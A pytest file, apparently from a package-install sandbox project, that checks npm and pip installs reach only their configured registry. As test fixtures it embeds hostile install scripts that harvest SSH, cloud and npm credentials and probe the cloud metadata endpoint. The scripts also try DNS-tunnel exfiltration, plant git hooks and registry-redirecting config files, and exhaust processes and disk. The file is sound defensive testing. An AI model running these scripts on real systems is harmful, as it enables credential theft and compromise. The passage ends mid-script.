"""Real world, outside the test internet (issue 3): a sandboxed `npm install` and
`pip install` in allowlist mode reach the registry their tool is configured with,
and a hostile install script reaches nothing else.

These are the ONLY tests that leave the machine. They run in the machine's own
netns with the ordinary daemon (the `boxy` fixture), in allowlist mode only, and
the only hosts they ever name are registry hosts read at test time from the tools'
own configuration (`boxyd.config.registries`, what the node and python profiles use):
nothing in this file names a host. Where the registry's address sits in a
special-purpose range (a TLS-intercepting mirror, say), exactly that address is
opened with --allow-cidr, as a user of such a machine would have to.

The "extra host" a hostile script tries is the *other* tool's registry: it
resolves and answers on this machine, so every probe here would get through
without boxy, and the only place a leak could reach is another package registry.
Each probe prints ESCAPED only when a server answered; the test also asserts the
refusal itself (the error the script saw, boxy's audit record).

A registry outage is a failure here, not a skip: only a missing tool skips.
"""

from __future__ import annotations

import contextlib
import ipaddress
import json
import os
import re
import shutil
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from boxyd.config.registries import Registries
from boxyd.net.ranges import classify
from tests.conftest import Boxy, User

pytestmark = pytest.mark.sandbox

TIMEOUT = 180  # one install, cold: resolving, a few registry round trips, npm's start-up
SMALL_NPM = "is-number"  # no dependencies
SMALL_PIP = "six"  # one pure-Python module, no dependencies

# How the probe scripts report a refusal; anything else that is not "refused …"
# means some server answered. The codes each probe may end with are asserted below.
REFUSED_DNS = ("dns-nxdomain", "dns-again")
# refused after the ClientHello by the name it sent: boxy's TLS access_denied alert,
# which each client reads as such (issue 34 §3); never a far end's (boxy does not dial)
REFUSED_ALERT = ("boxy-alert",)

NODE_PROBE = r"""'use strict';
// A postinstall script as a hostile package would write it: reach a host the
// sandbox was not given. ESCAPED only if a server answered.
const fs = require('fs'), path = require('path'), tls = require('tls');
const t = JSON.parse(fs.readFileSync(path.join(__dirname, 'target.json'), 'utf8'));
const CODES = {ENOTFOUND: 'dns-nxdomain', EAI_AGAIN: 'dns-again', ECONNRESET: 'reset',
               EPIPE: 'reset', ECONNREFUSED: 'connect', EHOSTUNREACH: 'unreachable',
               ENETUNREACH: 'unreachable', ETIMEDOUT: 'timeout'};
let done = false;
function report(line) {
  if (done) return;
  done = true;
  fs.writeFileSync(t.result, line + '\n');
  console.log('probe: ' + line);
}
const s = tls.connect({host: t.host, port: t.port, servername: t.servername,
                       rejectUnauthorized: false, ALPNProtocols: ['http/1.1']});
s.setTimeout(15000, () => { report('refused timeout'); s.destroy(); });
s.on('secureConnect', () => {
  report('ESCAPED: TLS handshake with ' + t.servername + ' via ' + s.remoteAddress);
  s.destroy();
});
s.on('error', e => report(
  e.code === 'ERR_SSL_TLSV1_ALERT_ACCESS_DENIED' ? 'refused boxy-alert (' + e.code + ')'
  : CODES[e.code] ? 'refused ' + CODES[e.code] + ' (' + e.code + ')'
  : 'ESCAPED: a server answered: ' + (e.code || e.message)));
"""

PY_PROBE = r"""# After the install, in the same sandbox: reach a host the sandbox was not given.
import errno, json, socket, ssl, sys

t = json.load(open(sys.argv[1]))

def probe():
    try:
        infos = socket.getaddrinfo(t["host"], t["port"], type=socket.SOCK_STREAM)
    except socket.gaierror as e:
        code = {socket.EAI_NONAME: "dns-nxdomain", socket.EAI_AGAIN: "dns-again"}.get(e.errno)
        return f"refused {code} ({e})" if code else f"refused dns-other ({e})"
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        with socket.create_connection(infos[0][4][:2], timeout=15) as raw, \
                ctx.wrap_socket(raw, server_hostname=t["servername"]) as s:
            return f"ESCAPED: TLS handshake with {t['servername']} via {s.getpeername()[0]}"
    except (ConnectionResetError, BrokenPipeError):
        return "refused reset"
    except ConnectionRefusedError:
        return "refused connect"
    except TimeoutError:
        return "refused timeout"
    except ssl.SSLError as e:
        if "TLSV1_ALERT_ACCESS_DENIED" in str(e):
            return f"refused boxy-alert ({e})"
        return f"ESCAPED: a server answered: {e}"
    except OSError as e:
        return f"refused {errno.errorcode.get(e.errno, e.errno)}"

line = probe()
open(t["result"], "w").write(line + "\n")
print("probe:", line)
"""


def out(r: subprocess.CompletedProcess[bytes]) -> str:
    return r.stdout.decode(errors="replace")


def err(r: subprocess.CompletedProcess[bytes]) -> str:
    return r.stderr.decode(errors="replace")


def both(r: subprocess.CompletedProcess[bytes]) -> str:
    return f"exit {r.returncode}\n--- stdout\n{out(r)[-4000:]}\n--- stderr\n{err(r)[-4000:]}"


# --- what the tools are configured with, asked of the tools (as the test user) -------


def _tool(user: User, argv: list[str]) -> str | None:
    if shutil.which(argv[0]) is None:
        return None
    r = user.run(argv, timeout=60, cwd=user.home)
    text = out(r).strip()
    return text if r.returncode == 0 and text and text not in ("undefined", "null") else None


_REGISTRIES: dict[str, str | None] = {}


def registry(user: User, name: str) -> str | None:
    """The host profile template NAME ({npm_registry}, {pip_index}, {pip_files})
    stands for, found the way boxyd finds it."""
    if name not in _REGISTRIES:
        _REGISTRIES[name] = Registries(user.env(), run=lambda argv: _tool(user, argv))(name)
    return _REGISTRIES[name]


def need_npm() -> None:
    for tool in ("node", "npm"):
        if shutil.which(tool) is None:
            pytest.skip(f"{tool} is not installed (`make setup` installs nodejs and npm)")


def need_pip(user: User) -> None:
    if _tool(user, ["python3", "-m", "pip", "--version"]) is None:
        pytest.skip("pip is not installed for python3")


def addresses(host: str) -> list[str]:
    """HOST's addresses, as this machine resolves them (boxyd asks the same resolver)."""
    try:
        infos = socket.getaddrinfo(host, 443, type=socket.SOCK_STREAM)
    except socket.gaierror as e:
        pytest.fail(f"the registry host {host} does not resolve on this machine: {e}")
    return list(dict.fromkeys(str(ipaddress.ip_address(str(i[4][0]).split("%")[0])) for i in infos))


def cidr_flags(hosts: list[str]) -> list[str]:
    """--allow-cidr for exactly each registry address in a special-purpose range."""
    flags: list[str] = []
    for host in hosts:
        for addr in addresses(host):
            if classify(addr) is not None:
                prefix = f"{addr}/{32 if ipaddress.ip_address(addr).version == 4 else 128}"
                if prefix not in flags:
                    flags += ["--allow-cidr", prefix]
    return flags


# --- the CA a TLS-intercepting mirror needs -------------------------------------------

# tool -> (the host-side question, the same question inside, the env var the tool reads)
_CA_QUERIES = {
    "npm": (["npm", "config", "get", "cafile"], "npm config get cafile", "npm_config_cafile"),
    "pip": (["python3", "-m", "pip", "config", "list"], "python3 -m pip config list", "PIP_CERT"),
}
_CA_FLAGS: dict[str, list[str]] = {}


def _pip_cert(listing: str | None) -> str | None:
    m = re.search(r"^global\.cert='(.*)'$", listing or "", re.M)
    return m.group(1) if m else None


def ca_flags(boxy: Boxy, tool: str) -> list[str]:
    """What the sandboxed TOOL needs to trust the CA file the host's TOOL is
    configured with: nothing when it already reads the same setting inside (npm's
    global npmrc lives under /usr, which the sandbox sees), else the setting as an
    environment variable, and the file itself when the sandbox cannot read it
    (/etc there holds only boxyd.plan.mountplan.ETC_FROM_HOST)."""
    if tool in _CA_FLAGS:
        return _CA_FLAGS[tool]
    host_argv, inside_cmd, var = _CA_QUERIES[tool]
    raw = _tool(boxy.user, host_argv)
    cafile = _pip_cert(raw) if tool == "pip" else raw
    flags: list[str] = []
    if cafile:
        r = boxy.run(
            "--net",
            "none",
            cmd=["sh", "-c", f'{inside_cmd}; test -r "$0" && echo READABLE', cafile],
            timeout=60,
        )
        assert r.returncode in (0, 1), both(r)
        lines = out(r).splitlines()
        inside = _pip_cert(out(r)) if tool == "pip" else (lines[0].strip() if lines else None)
        path = cafile
        if "READABLE" not in lines:
            # Not visible in the sandbox: a read-only copy outside the work directory.
            path = f"{boxy.user.home}/.boxy-test-ca/{tool}-{Path(cafile).name}"
            flags += ["--copy-ro", f"{cafile}:{path}"]
        if inside != path:
            flags += ["-e", f"{var}={path}"]
    _CA_FLAGS[tool] = flags
    return flags


# --- running and reading ----------------------------------------------------------------


def audit(boxy: Boxy) -> list[dict[str, Any]]:
    path = boxy.workdir / "audit.jsonl"
    assert path.exists(), "boxyd wrote no audit log"
    return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]


def policy_record(records: list[dict[str, Any]]) -> dict[str, Any]:
    found = [r for r in records if r.get("layer") == "net.policy"]
    assert found, "no net.policy record in the audit log"
    return found[0]


def _norm(name: object) -> str:
    return str(name or "").lower().rstrip(".")


def write(boxy: Boxy, rel: str, text: str) -> Path:
    path = boxy.workdir / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    boxy.user.chown(boxy.workdir)
    return path


def extra_host(user: User, allowed: list[str], candidates: list[str]) -> str:
    """The first of the other tool's registry hosts that this run does not allow."""
    hosts = [h for h in (registry(user, c) for c in candidates) if h]
    for h in hosts:
        if _norm(h) not in {_norm(a) for a in allowed}:
            return h
    pytest.skip(
        f"no second registry host to try: {', '.join(candidates)} "
        f"{'is the allowed host' if hosts else 'not configured (tool not installed)'}"
    )


def probe_target(kind: str, extra: str, registry_addr: str, result: Path) -> dict[str, str | int]:
    """By name: the extra host through DNS. Forged SNI: the allowed registry's own
    address (what any script can resolve), naming the extra host in the ClientHello
    (a mirror or CDN serving both would hand it over)."""
    if kind == "by-name":
        return {"host": extra, "port": 443, "servername": extra, "result": str(result)}
    return {"host": registry_addr, "port": 443, "servername": extra, "result": str(result)}


PROBES = ("by-name", "forged-sni")
EXPECTED = {"by-name": REFUSED_DNS, "forged-sni": REFUSED_ALERT}


def check_probe(boxy: Boxy, r: subprocess.CompletedProcess[bytes], kind: str, extra: str) -> None:
    result = boxy.workdir / "probe-result.txt"
    assert "ESCAPED" not in out(r) + err(r), both(r)
    assert result.exists(), f"the probe never ran\n{both(r)}"
    line = result.read_text().strip()
    assert "ESCAPED" not in line, line
    code = line.removeprefix("refused ").split(" ", 1)[0]
    assert line.startswith("refused ") and code in EXPECTED[kind], (
        f"{kind} probe of {extra}: expected a refusal {EXPECTED[kind]}, got {line!r}\n{both(r)}"
    )
    records = audit(boxy)
    leaked = [
        x
        for x in records
        if x.get("verdict") == "allow"
        and extra.lower() in (_norm(x.get("name")), _norm(x.get("sni")), _norm(x.get("host")))
    ]
    assert not leaked, f"boxy allowed the extra host {extra}: {leaked}"
    layer, field = ("net.dns", "name") if kind == "by-name" else ("net.sni", "sni")
    denials = [
        x
        for x in records
        if x.get("layer") == layer
        and x.get("verdict") == "deny"
        and _norm(x.get(field)) == extra.lower()
    ]
    assert denials, (
        f"no {layer} denial naming {extra} in the audit log: "
        f"{[x for x in records if x.get('layer', '').startswith('net.')]}"
    )


# --- npm --------------------------------------------------------------------------------


def npm_setup(boxy: Boxy) -> tuple[str, list[str]]:
    """The registry host and the flags for `boxyctl run --profile node`."""
    need_npm()
    host = registry(boxy.user, "npm_registry")
    assert host, "npm has no registry configured (`npm config get registry`)"
    write(
        boxy,
        "package.json",
        json.dumps({"name": "boxy-real-npm", "version": "1.0.0", "private": True}) + "\n",
    )
    flags = [
        "--profile",
        "node",
        *cidr_flags([host]),
        *ca_flags(boxy, "npm"),
        "--audit-log",
        "audit.jsonl",
        "-v",
    ]
    return host, flags


def check_npm_installed(boxy: Boxy, r: subprocess.CompletedProcess[bytes], host: str) -> None:
    assert r.returncode == 0, both(r)
    manifest = boxy.workdir / "node_modules" / SMALL_NPM / "package.json"
    assert manifest.exists(), both(r)
    assert json.loads(manifest.read_text())["name"] == SMALL_NPM
    pol = policy_record(audit(boxy))
    assert pol["mode"] == "allowlist", pol
    # The profile allowed exactly the host npm is configured with, and nothing else.
    assert [_norm(h) for h in pol["allow_hosts"]] == [_norm(host)], pol


def test_npm_install_reaches_only_its_registry(boxy: Boxy) -> None:
    host, flags = npm_setup(boxy)
    r = boxy.run(*flags, cmd=["npm", "install", SMALL_NPM], timeout=TIMEOUT, input=b"")
    check_npm_installed(boxy, r, host)
    conns = [
        x
        for x in audit(boxy)
        if x.get("layer") in ("net.sni", "net.dns", "net.ip")
        and x.get("verdict") == "allow"
        and x.get("proto") == "tcp"
    ]
    assert conns, "the install made no connection boxy recorded"
    assert {_norm(x.get("sni") or x.get("host")) for x in conns} == {_norm(host)}, conns


@pytest.mark.parametrize("kind", PROBES)
def test_npm_postinstall_cannot_reach_another_host(boxy: Boxy, kind: str) -> None:
    host, flags = npm_setup(boxy)
    extra = extra_host(boxy.user, [host], ["pip_index", "pip_files"])
    addr = addresses(host)[0]
    write(
        boxy,
        "probe-pkg/package.json",
        json.dumps(
            {"name": "boxy-probe", "version": "1.0.0", "scripts": {"postinstall": "node probe.js"}}
        )
        + "\n",
    )
    write(boxy, "probe-pkg/probe.js", NODE_PROBE)
    target = probe_target(kind, extra, addr, boxy.workdir / "probe-result.txt")
    write(boxy, "probe-pkg/target.json", json.dumps(target))
    r = boxy.run(
        *flags,
        cmd=["npm", "install", "--foreground-scripts", SMALL_NPM, "./probe-pkg"],
        timeout=TIMEOUT,
        input=b"",
    )
    # The job still works (the probe reports and exits 0), and the probe was refused.
    check_npm_installed(boxy, r, host)
    check_probe(boxy, r, kind, extra)


def test_node_https_in_a_postinstall_trusts_the_registry_ca(boxy: Boxy) -> None:
    """A postinstall downloader's own https (node's TLS, not npm's) reaches the allowed
    registry: the profile hands node npm's CA file (through OpenSSL's store)."""
    host, flags = npm_setup(boxy)
    write(
        boxy,
        "https-pkg/package.json",
        json.dumps(
            {"name": "boxy-https", "version": "1.0.0", "scripts": {"postinstall": "node get.js"}}
        )
        + "\n",
    )
    write(
        boxy,
        "https-pkg/get.js",
        (
            "const fs = require('fs'), out = process.env.INIT_CWD + '/https-status';\n"
            "const done = s => { fs.writeFileSync(out, s); process.exit(0); };\n"
            "setTimeout(() => done('ERR timed out'), 30000);\n"
            "require('https').get(process.env.npm_config_registry, r => done(String(r.statusCode)))"
            ".on('error', e => done('ERR ' + e.message));\n"
        ),
    )
    r = boxy.run(
        *flags,
        cmd=["npm", "install", "--foreground-scripts", SMALL_NPM, "./https-pkg"],
        timeout=TIMEOUT,
        input=b"",
    )
    check_npm_installed(boxy, r, host)
    status = (boxy.workdir / "https-status").read_text()
    assert status.isdigit() and int(status) < 500, f"node's https: {status}\n{both(r)}"


# --- pip --------------------------------------------------------------------------------


def pip_setup(boxy: Boxy) -> tuple[list[str], list[str]]:
    need_pip(boxy.user)
    hosts = [h for h in (registry(boxy.user, n) for n in ("pip_index", "pip_files")) if h]
    assert hosts, "pip has no index configured and none of its own"
    flags = [
        "--profile",
        "python",
        *cidr_flags(hosts),
        *ca_flags(boxy, "pip"),
        "--audit-log",
        "audit.jsonl",
        "-v",
    ]
    return hosts, flags


PIP_INSTALL = f"python3 -m pip install --no-input --target ./site {SMALL_PIP}"


def check_pip_installed(
    boxy: Boxy, r: subprocess.CompletedProcess[bytes], hosts: list[str]
) -> None:
    assert r.returncode == 0, both(r)
    assert (boxy.workdir / "site" / f"{SMALL_PIP}.py").exists(), both(r)
    pol = policy_record(audit(boxy))
    assert pol["mode"] == "allowlist", pol
    assert sorted({_norm(h) for h in pol["allow_hosts"]}) == sorted({_norm(h) for h in hosts}), pol


def test_pip_install_reaches_only_its_index(boxy: Boxy) -> None:
    hosts, flags = pip_setup(boxy)
    r = boxy.run(
        *flags,
        cmd=[
            "sh",
            "-c",
            f"{PIP_INSTALL} && python3 -c "
            f'\'import sys; sys.path.insert(0, "site"); import {SMALL_PIP}; '
            f'print("imported", {SMALL_PIP}.__name__)\'',
        ],
        timeout=TIMEOUT,
        input=b"",
    )
    check_pip_installed(boxy, r, hosts)
    assert f"imported {SMALL_PIP}" in out(r), both(r)
    conns = [x for x in audit(boxy) if x.get("verdict") == "allow" and x.get("proto") == "tcp"]
    assert conns, "the install made no connection boxy recorded"
    assert {_norm(x.get("sni") or x.get("host")) for x in conns} <= {_norm(h) for h in hosts}, conns


@pytest.mark.parametrize("kind", PROBES)
def test_pip_run_script_cannot_reach_another_host(boxy: Boxy, kind: str) -> None:
    hosts, flags = pip_setup(boxy)
    need_npm()  # the other registry is npm's
    extra = extra_host(boxy.user, hosts, ["npm_registry"])
    addr = addresses(hosts[0])[0]
    write(boxy, "probe.py", PY_PROBE)
    target = probe_target(kind, extra, addr, boxy.workdir / "probe-result.txt")
    write(boxy, "target.json", json.dumps(target))
    r = boxy.run(
        *flags,
        cmd=["sh", "-c", f"{PIP_INSTALL} && python3 probe.py target.json"],
        timeout=TIMEOUT,
        input=b"",
    )
    check_pip_installed(boxy, r, hosts)
    check_probe(boxy, r, kind, extra)


# --- a worm's first step: the project's own credentials ------------------------------------

SECRET = "boxySECRETworm"  # harvest.js assembles the same marker
HARVEST = r"""'use strict';
// A worm-shaped postinstall: harvest every credential in the project it was installed
// into (npm gives the project's directory as INIT_CWD), then report what it got.
const fs = require('fs'), path = require('path');
// the marker is put together here, so that this package's own files do not hold it
const root = process.env.INIT_CWD, secret = ['boxySECRET', 'worm'].join('');
const got = [];
(function walk(dir) {
  for (const e of fs.readdirSync(dir, {withFileTypes: true})) {
    const p = path.join(dir, e.name);
    if (e.name === 'node_modules') continue;
    if (e.isDirectory()) { walk(p); continue; }
    try { if (fs.readFileSync(p, 'utf8').includes(secret)) got.push(path.relative(root, p)); }
    catch (err) { /* unreadable: nothing got */ }
  }
})(root);
for (const [k, v] of Object.entries(process.env)) if (String(v).includes(secret)) got.push('env:' + k);
fs.writeFileSync(path.join(root, 'harvest.json'), JSON.stringify({got}));
console.log('harvest: ' + (got.length ? 'ESCAPED ' + got.join(' ') : 'nothing'));
"""


def test_npm_postinstall_harvests_no_project_credential(boxy: Boxy) -> None:
    """Installed under --profile node from a local package, in a project holding each
    kind of credential: it reads none, the real package still installs, and the
    project .npmrc's other settings still apply."""
    host, flags = npm_setup(boxy)
    registry_url = _tool(boxy.user, ["npm", "config", "get", "registry"])
    assert registry_url
    write(boxy, ".npmrc", f"registry={registry_url}\nfund=false\n//{host}/:_authToken={SECRET}\n")
    write(boxy, ".env", f"NPM_TOKEN={SECRET}\n")
    write(
        boxy,
        ".git/config",
        f'[remote "origin"]\n\turl = https://ci:{SECRET}@git.example/r.git\n'
        f'[http "https://git.example/"]\n\textraheader = AUTHORIZATION: basic {SECRET}\n',
    )
    write(boxy, ".git/HEAD", "ref: refs/heads/main\n")
    for d in (".git/objects", ".git/refs"):
        (boxy.workdir / d).mkdir(parents=True, exist_ok=True)
    write(
        boxy,
        "deploy/id_rsa",
        f"-----BEGIN RSA PRIVATE KEY-----\n{SECRET}\n-----END RSA PRIVATE KEY-----\n",
    )
    write(boxy, ".pypirc", f"[pypi]\npassword = {SECRET}\n")
    write(
        boxy,
        "harvest-pkg/package.json",
        json.dumps(
            {
                "name": "boxy-harvest",
                "version": "1.0.0",
                "scripts": {"postinstall": "node harvest.js"},
            }
        )
        + "\n",
    )
    write(boxy, "harvest-pkg/harvest.js", HARVEST)
    r = boxy.run(
        *flags,
        cmd=[
            "sh",
            "-c",
            f"npm install --foreground-scripts {SMALL_NPM} ./harvest-pkg "
            "&& echo project-npmrc-fund=$(npm config get fund)",
        ],
        timeout=TIMEOUT,
        input=b"",
    )
    check_npm_installed(boxy, r, host)
    report = json.loads((boxy.workdir / "harvest.json").read_text())
    assert report["got"] == [], f"ESCAPED: the postinstall read {report['got']}\n{both(r)}"
    assert "project-npmrc-fund=false" in out(r), f"the project .npmrc was not read\n{both(r)}"
    assert "credential files masked" in err(r), both(r)
    assert f"_authToken={SECRET}" in (boxy.workdir / ".npmrc").read_text()  # the host's is intact


# --- per-project package caches ------------------------------------------------------------


def _cache_dirs(user: User) -> set[str]:
    base = user.home / ".cache/boxy/cache/node"
    return {p.name for p in base.iterdir() if p.is_dir()} if base.exists() else set()


def test_npm_cache_is_per_project_and_a_second_ci_downloads_nothing(
    boxy: Boxy, user: User, tmp_path: Path
) -> None:
    host, flags = npm_setup(boxy)
    before = _cache_dirs(user)
    r = boxy.run(
        *flags,
        cmd=["npm", "install", "--no-audit", "--no-fund", SMALL_NPM],
        timeout=TIMEOUT,
        input=b"",
    )
    check_npm_installed(boxy, r, host)
    mine = _cache_dirs(user) - before
    assert len(mine) == 1, mine  # this project's own cache, made for it
    shutil.rmtree(boxy.workdir / "node_modules")
    (boxy.workdir / "audit.jsonl").unlink()
    r = boxy.run(*flags, cmd=["npm", "ci", "--no-audit", "--no-fund"], timeout=TIMEOUT, input=b"")
    assert r.returncode == 0 and (boxy.workdir / "node_modules" / SMALL_NPM).is_dir(), both(r)
    conns = [x for x in audit(boxy) if x.get("verdict") == "allow" and x.get("proto") == "tcp"]
    assert conns == [], f"the warm npm ci still went to the registry: {conns}"
    # another project gets a cache of its own: nothing of the first one's
    other = Boxy(user, boxy.workdir.parent / f"{boxy.workdir.name}-other")
    other.workdir.mkdir()
    try:
        write(
            other,
            "package.json",
            json.dumps({"name": "other", "version": "1.0.0", "private": True}),
        )
        r = other.run(
            *flags,
            cmd=["sh", "-c", "ls -A $npm_config_cache 2>/dev/null | wc -l"],
            timeout=TIMEOUT,
            input=b"",
        )
        assert r.returncode == 0 and out(r).strip() == "0", both(r)
        assert len(_cache_dirs(user) - before) == 2
    finally:
        shutil.rmtree(other.workdir, ignore_errors=True)


# --- the hostile package, end to end ---------------------------------------------------------


@contextlib.contextmanager
def agent_socket(user: User) -> Iterator[Path]:
    """A listening stand-in for the SSH agent, the user's; afterwards it goes, and so
    do the sleeps a hostile script forked."""
    agent = user.home / f".boxy-agent-{os.getpid()}.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(agent))
    server.listen()
    os.chown(agent, user.uid, user.gid)
    try:
        yield agent
    finally:
        server.close()
        agent.unlink(missing_ok=True)
        subprocess.run(["pkill", "-u", str(user.uid), "-x", "sleep"], check=False)


HOSTILE = r"""'use strict';
// A postinstall that tries everything in the threat model (docs/design.md) at once, and says
// ESCAPED:<what> for anything that works. HOSTILE-RAN proves it ran at all.
const fs = require('fs'), path = require('path'), net = require('net'), dns = require('dns');
const cp = require('child_process'), os = require('os');
const t = JSON.parse(fs.readFileSync(path.join(__dirname, 'targets.json'), 'utf8'));
const root = process.env.INIT_CWD;
const out = [];
const say = (s) => { out.push(s); console.log(s); };
say('HOSTILE-RAN');
for (const p of ['.ssh/id_rsa', '.ssh/id_ed25519', '.aws/credentials', '.npmrc', '.config/gcloud']) {
  try { fs.readFileSync(path.join(t.home, p)); say('ESCAPED:read-' + p); } catch (e) {}
}
for (const [k, v] of Object.entries(process.env)) if (String(v).includes(t.marker)) say('ESCAPED:env-' + k);
for (const p of ['.env', '.npmrc']) {
  try { if (fs.readFileSync(path.join(root, p), 'utf8').includes(t.marker)) say('ESCAPED:project-' + p); }
  catch (e) {}
}
const tries = [];
const connect = (label, opts) => tries.push(new Promise((done) => {
  const s = net.connect(opts);
  s.setTimeout(4000, () => { s.destroy(); done(); });
  s.on('connect', () => { if (label !== 'agent') { s.write('GET / HTTP/1.0\r\n\r\n'); } });
  s.on('data', () => { say('ESCAPED:' + label); s.destroy(); done(); });
  s.on('error', () => done());
  s.on('close', () => done());
}));
connect('agent', {path: t.agent});
connect('metadata', {host: '169.254.169.254', port: 80});
connect('lan', {host: '192.168.1.1', port: 80});
tries.push(new Promise((done) => dns.lookup(t.extra, (err, addr) => {
  if (!err) { say('ESCAPED:resolved-' + t.extra); connect('extra', {host: addr, port: 443}); }
  done();
})));
tries.push(new Promise((done) => dns.resolveTxt(`${Buffer.from('exfil').toString('hex')}.${t.extra}`,
  (err) => { if (!err) say('ESCAPED:dns-tunnel'); done(); })));
for (const [label, fn] of [
  ['git-hook', () => fs.writeFileSync(path.join(root, '.git/hooks/pre-commit'), '#!/bin/sh\n')],
  ['git-config', () => fs.appendFileSync(path.join(root, '.git/config'), '[core]\n\thooksPath = /tmp\n')],
]) { try { fn(); say('ESCAPED:' + label); } catch (e) {} }
// these land (the work directory is writable; written whole, as each hook runs this
// script); the next run must not be any wider
for (const [p, text] of [['.boxy.yaml', 'net: public\nallow_hosts: ["' + t.extra + '"]\n'],
                         ['.npmrc', '\nregistry=https://' + t.extra + '/\n']]) {
  try { fs.writeFileSync(path.join(root, p), text); say('planted ' + p); } catch (e) {}
}
let kids = 0;
try { for (; kids < 5000; kids++) cp.spawn('sleep', ['30'], {stdio: 'ignore'}).on('error', () => {}); }
catch (e) {}
try { const big = Buffer.alloc(64 << 20); for (let i = 0; i < 256; i++) fs.writeFileSync(`/tmp/fill${i}`, big); }
catch (e) { say('filled-tmp ' + e.code); }
Promise.all(tries).then(() => {
  fs.writeFileSync(path.join(root, 'hostile-report.json'), JSON.stringify(out));
  process.exit(0);
});
"""


def test_the_hostile_package_gets_nothing_and_the_next_run_is_no_wider(
    boxy: Boxy, user: User, tmp_path: Path
) -> None:
    host, flags = npm_setup(boxy)
    extra = extra_host(boxy.user, [host], ["pip_index", "pip_files"])
    marker = "boxyHOSTILEmarker"
    subprocess.run(["git", "init", "-q", str(boxy.workdir)], check=True)
    write(boxy, ".env", f"NPM_TOKEN={marker}\n")
    with agent_socket(user) as agent:
        write(
            boxy,
            "hostile-pkg/package.json",
            json.dumps(
                {
                    "name": "boxy-hostile",
                    "version": "1.0.0",
                    "scripts": {"preinstall": "node hostile.js", "postinstall": "node hostile.js"},
                }
            )
            + "\n",
        )
        write(boxy, "hostile-pkg/hostile.js", HOSTILE)
        write(
            boxy,
            "hostile-pkg/targets.json",
            json.dumps(
                {"home": str(user.home), "marker": marker, "agent": str(agent), "extra": extra}
            ),
        )
        env = {"NPM_TOKEN": marker, "GITHUB_TOKEN": marker, "SSH_AUTH_SOCK": str(agent)}
        r = boxy.run(
            *flags,
            "--pids",
            "256",
            "--memory",
            "512MiB",
            cmd=[
                "npm",
                "install",
                "--foreground-scripts",
                "--no-audit",
                "--no-fund",
                "./hostile-pkg",
                SMALL_NPM,
            ],
            timeout=TIMEOUT,
            input=b"",
            extra_env=env,
        )
        check_npm_installed(boxy, r, host)
        assert "HOSTILE-RAN" in out(r), f"the hostile script never ran\n{both(r)}"
        report = json.loads((boxy.workdir / "hostile-report.json").read_text())
        assert not [x for x in report if x.startswith("ESCAPED")], f"{report}\n{both(r)}"
        assert "filled-tmp ENOSPC" in report, report  # the scratch tmpfs is bounded
        assert "ESCAPED" not in out(r) + err(r), both(r)
        first = policy_record(audit(boxy))
        # what it planted for the next run changes nothing about that run
        (boxy.workdir / "audit.jsonl").unlink()
        r2 = boxy.run(*flags, cmd=["true"], timeout=TIMEOUT, input=b"")
        assert r2.returncode == 0, both(r2)
        second = policy_record(audit(boxy))
        assert (second["mode"], second["allow_hosts"]) == (first["mode"], first["allow_hosts"])
        assert {"planted .boxy.yaml", "planted .npmrc"} <= set(report), report
        # the .npmrc naming a registry is a file npm obeys: quarantined as it appeared
        assert f"quarantined {boxy.workdir}/.npmrc (npm runs or installs what" in err(r)
        assert not (boxy.workdir / ".npmrc").exists()
        assert (
            f"held back: net (public), allow_hosts ({extra}) of {boxy.workdir}/.boxy.yaml;"
            in err(r2)
        ), both(r2)
        assert not (boxy.workdir / ".git/hooks/pre-commit").exists()


# --- the hostile sdist, end to end (pip) -------------------------------------------------------

HOSTILE_SETUP = r"""# setup.py of a hostile sdist: its build step tries what a hostile package would,
# and says ESCAPED:<what> for anything that works. HOSTILE-RAN proves it ran at all.
import json, os, random, socket, struct, subprocess, sys
t = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "targets.json")))
out = []
def say(s):
    out.append(s); print(s, flush=True)
say("HOSTILE-RAN")
for p in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".pypirc", ".config/pip/pip.conf"):
    try:
        open(os.path.join(t["home"], p), "rb").read(); say("ESCAPED:read-" + p)
    except OSError:
        pass
for k, v in os.environ.items():
    if t["marker"] in v:
        say("ESCAPED:env-" + k)
for p in (".env", ".pypirc"):
    try:
        if t["marker"] in open(os.path.join(t["root"], p)).read():
            say("ESCAPED:project-" + p)
    except OSError:
        pass
def connect(label, family, addr):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(4)
    try:
        s.connect(addr)
        if label != "agent":
            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        if s.recv(1) or label == "agent":
            say("ESCAPED:" + label)
    except OSError:
        pass
    finally:
        s.close()
connect("agent", socket.AF_UNIX, t["agent"])
connect("metadata", socket.AF_INET, ("169.254.169.254", 80))
connect("lan", socket.AF_INET, ("192.168.1.1", 80))
try:
    addr = socket.getaddrinfo(t["extra"], 443, type=socket.SOCK_STREAM)[0][4]
    say("ESCAPED:resolved-" + t["extra"]); connect("extra", socket.AF_INET, addr[:2])
except OSError:
    pass
def txt_query(name):  # a DNS tunnel: TXT for an encoded label, to the sandbox's resolver
    ns = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
    q = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0" + struct.pack(">HH", 16, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(4)
    try:
        s.sendto(q, (ns, 53)); r = s.recv(4096)
        return (r[3] & 0x0F) == 0 and struct.unpack(">H", r[6:8])[0] > 0
    except OSError:
        return False
    finally:
        s.close()
if txt_query("6578666967." + t["extra"]):
    say("ESCAPED:dns-tunnel")
for label, path, text in (("git-hook", ".git/hooks/pre-commit", "#!/bin/sh\n"),
                          ("git-config", ".git/config", "[core]\n\thooksPath = /tmp\n")):
    try:
        open(os.path.join(t["root"], path), "a").write(text); say("ESCAPED:" + label)
    except OSError:
        pass
# these land (the work directory is writable); the next run must not be any wider
for p, text in ((".boxy.yaml", 'net: public\nallow_hosts: ["%s"]\n' % t["extra"]),
                (".venv/pyvenv.cfg", ""),  # a virtual environment pip would read pip.conf of
                (".venv/pip.conf", "[global]\nindex-url = https://%s/simple\n" % t["extra"])):
    try:
